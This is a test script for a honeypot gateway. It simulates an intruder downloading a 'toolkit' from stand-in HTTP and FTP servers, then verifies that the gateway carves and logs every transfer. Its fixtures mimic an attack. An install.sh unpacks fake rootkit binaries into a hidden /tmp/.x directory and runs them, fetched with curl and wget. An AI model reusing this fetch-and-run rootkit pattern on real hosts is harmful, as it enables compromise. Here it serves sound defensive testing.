#!/bin/bash
# File carving live: the intruder, on the honeypot, fetches a "toolkit"
# through the fishbowl gateway from the Internet's web server (python3
# http.server on 203.0.113.80) and FTP server (vsftpd on 203.0.113.21,
# anonymous, its own config file here), with curl and wget over HTTP, and
# over FTP with curl (EPSV), the Debian ftp client (passive) and curl in
# active mode (PORT/EPRT: the server connects back).  Checks that files/
# holds each served file under its exact SHA-256, that files.jsonl names
# it with the right MIME type from libmagic (and the control connection
# for FTP), and that http.jsonl and ftp.jsonl have the exchanges.
#
# Run as root from the repo root: FB_BUILD=build bash tests/netns/files.sh
# (FBN_KEEP=1 keeps the work directory: configs, data, logs.)
. "$(dirname "$0")/../lib.sh"
cd "$FB_ROOT" || exit 1

if [ "$(id -u)" != 0 ]; then
	skip "files" "needs root"
	done_testing; exit 0
fi
for t in ip curl wget ftp vsftpd python3 ss sha256sum; do
	if ! command -v $t >/dev/null; then
		skip "files" "$t missing"
		done_testing; exit 0
	fi
done
if [ ! -x "$FISHBOWL" ]; then
	not_ok "fishbowl is built" "no executable $FISHBOWL"
	done_testing; exit 1
fi

FBN_PREFIX=${FBN_PREFIX:-fbfl$$}
FBN_FISHBOWL=$FISHBOWL
. "$FB_ROOT/tests/netns/lib-netns.sh"
fbn_init || { not_ok "work directory"; done_testing; exit 1; }
if ! fbn_up; then
	not_ok "test bed: namespaces, veth pairs, addresses"
	done_testing; exit 1
fi
ok "test bed: outside, gateway and honeypot namespaces"
W=$FBN_WORK

# --- the Internet's servers ----------------------------------------------
mkdir -p "$W/www" "$W/ftp/pub" "$W/vsftpd-empty" "$W/got"
python3 - "$W" <<'EOF'
import gzip, io, sys, tarfile
w = sys.argv[1]
def tgz(name, size, seed):
    data = bytes((i * seed + i // 7) & 0xff for i in range(size))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = 0
        t.addfile(info, io.BytesIO(data))
    return gzip.compress(buf.getvalue(), mtime=0)
open(w + "/www/toolkit.tar.gz", "wb").write(tgz("rk/sshd", 200000, 131))
open(w + "/www/install.sh", "w").write("#!/bin/sh\ncd /tmp/.x && tar xzf toolkit.tar.gz && ./rk/sshd\n")
open(w + "/ftp/pub/toolkit.tgz", "wb").write(tgz("rk/psybnc", 150000, 97))
open(w + "/ftp/pub/notes.txt", "w").write("irc.darknet.test #ops\n" * 40)
EOF
cat >"$W/vsftpd.conf" <<EOF
listen=YES
listen_address=203.0.113.21
background=NO
anonymous_enable=YES
local_enable=NO
write_enable=NO
anon_root=$W/ftp
no_anon_password=YES
secure_chroot_dir=$W/vsftpd-empty
seccomp_sandbox=NO
pasv_enable=YES
pasv_address=203.0.113.21
pasv_min_port=40000
pasv_max_port=40100
port_enable=YES
connect_from_port_20=NO
xferlog_enable=NO
EOF
chmod 0755 "$W/ftp" "$W/ftp/pub" "$W/www"
fbn_bg "$FBN_OUT" python3 -m http.server -d "$W/www" -b 203.0.113.80 80 >/dev/null 2>&1
fbn_bg "$FBN_OUT" vsftpd "$W/vsftpd.conf"
if fbn_wait_port "$FBN_OUT" 80 && fbn_wait_port "$FBN_OUT" 21; then
	ok "outside: web server 203.0.113.80, vsftpd 203.0.113.21"
else
	not_ok "outside: web server and vsftpd listen"
fi

fbn_conf files <<'EOF'
[control]
tcp = 1000/hour
udp = 100/hour
icmp = 100/hour
other = block
EOF
if fbn_start; then ok "fishbowl runs as the gateway"; else not_ok "fishbowl runs"; done_testing; exit 1; fi

# --- the intruder fetches ------------------------------------------------
inH curl -s -m 10 -o "$W/got/c.tgz" http://203.0.113.80/toolkit.tar.gz
check_eq "curl over HTTP through the gateway: the exact toolkit" \
    "$(sha256sum <"$W/www/toolkit.tar.gz")" "$(sha256sum <"$W/got/c.tgz" 2>&1)"
(cd "$W/got" && inH wget -q -T 10 -O "$W/got/w.sh" http://203.0.113.80/install.sh)
check_eq "wget over HTTP: the exact script" \
    "$(sha256sum <"$W/www/install.sh")" "$(sha256sum <"$W/got/w.sh" 2>&1)"
inH curl -s -m 10 -o "$W/got/f.tgz" ftp://203.0.113.21/pub/toolkit.tgz
check_eq "curl over FTP (EPSV): the exact toolkit" \
    "$(sha256sum <"$W/ftp/pub/toolkit.tgz")" "$(sha256sum <"$W/got/f.tgz" 2>&1)"
(cd "$W/got" && printf 'user anonymous x@\nbinary\npassive\nget pub/notes.txt notes.txt\nquit\n' |
    timeout 20 ip netns exec "$FBN_HP" ftp -n -v 203.0.113.21 >"$W/ftp-client.log" 2>&1)
check_eq "ftp client (passive): the exact notes" \
    "$(sha256sum <"$W/ftp/pub/notes.txt")" "$(sha256sum <"$W/got/notes.txt" 2>&1)"
inH curl -s -m 10 -P "$FBN_HP_ADDR" -o "$W/got/a.txt" ftp://203.0.113.21/pub/notes.txt
check_eq "curl over FTP, active mode (EPRT/PORT): the exact notes" \
    "$(sha256sum <"$W/ftp/pub/notes.txt")" "$(sha256sum <"$W/got/a.txt" 2>&1)"
sleep 0.5
if fbn_stop; then ok "fishbowl stops cleanly"; else not_ok "fishbowl stops cleanly" "$(tail -5 "$FBN_FB_LOG")"; fi

# --- what the layers recovered ------------------------------------------
day=$(ls -d "$FBN_DATA"/????-??-?? 2>/dev/null | tail -1)
for f in www/toolkit.tar.gz www/install.sh ftp/pub/toolkit.tgz ftp/pub/notes.txt; do
	h=$(sha256sum <"$W/$f" | cut -c1-64)
	check_eq "files/ holds $f under its SHA-256, same bytes" "$h" \
	    "$(sha256sum <"$day/files/$h" 2>&1 | cut -c1-64)"
done
check_eq "files/: nothing but digests (no temporary left)" "" \
    "$(ls -A "$day/files" | grep -vE '^[0-9a-f]{64}$')"
FQ='[json.loads(l) for l in open(sys.argv[1] + "/files.jsonl")]'
fq() { python3 -c "import json, sys; R = $FQ; print($1)" "$day" 2>&1; }
th=$(sha256sum <"$W/www/toolkit.tar.gz" | cut -c1-64)
check_eq "files.jsonl: the HTTP toolkit once, download, application/gzip, complete" \
    "http download http://203.0.113.80/toolkit.tar.gz application/gzip True 1" \
    "$(fq "' '.join(str(x) for x in [(r['proto'], r['direction'], r['name'], r['mime'], r['complete']) for r in R if r['sha256'] == '$th'][0]) + ' ' + str(len([r for r in R if r['sha256'] == '$th']))")"
sh=$(sha256sum <"$W/www/install.sh" | cut -c1-64)
check_eq "files.jsonl: the script is text/x-shellscript" "text/x-shellscript" \
    "$(fq "[r['mime'] for r in R if r['sha256'] == '$sh'][0]")"
fh=$(sha256sum <"$W/ftp/pub/toolkit.tgz" | cut -c1-64)
check_eq "files.jsonl: the FTP toolkit, named, application/gzip, with its control connection" \
    "ftp download toolkit.tgz application/gzip True True" \
    "$(fq "' '.join(str(x) for x in [(r['proto'], r['direction'], r['name'].rsplit('/', 1)[-1], r['mime'], r['complete'], r.get('ctrl_conn', 0) > 0) for r in R if r['sha256'] == '$fh'][0])")"
nh=$(sha256sum <"$W/ftp/pub/notes.txt" | cut -c1-64)
check_eq "files.jsonl: the notes twice (passive and active), text/plain, one file" \
    "2 text/plain;text/plain" \
    "$(fq "str(len([r for r in R if r['sha256'] == '$nh'])) + ' ' + ';'.join(r['mime'] for r in R if r['sha256'] == '$nh')")"
check_eq "http.jsonl: both GETs answered 200 with their files" \
    "GET /toolkit.tar.gz 200 $th;GET /install.sh 200 $sh" \
    "$(python3 -c "import json, sys; print(';'.join('%s %s %s %s' % (r['method'], r['uri'], r['status'], r.get('response_file')) for r in map(json.loads, open(sys.argv[1] + '/http.jsonl'))))" "$day" 2>&1)"
check_eq "ftp.jsonl: three RETRs answered 226, by user anonymous (no_anon_password: no PASS)" \
    "3 226;226;226 anonymous anonymous anonymous" \
    "$(python3 -c "
import json, sys
R = [json.loads(l) for l in open(sys.argv[1] + '/ftp.jsonl')]
rs = [r for r in R if r['command'] == 'RETR']
print(len(rs), ';'.join(str(r['reply']) for r in rs), ' '.join(r['arg'] for r in R if r['command'] == 'USER'))" "$day" 2>&1)"
check_eq "sessions: ftp-data connections tied by content, not port" "3" \
    "$(grep -c '"protocol":"ftp-data"' "$day/sessions.jsonl" 2>&1)"
done_testing
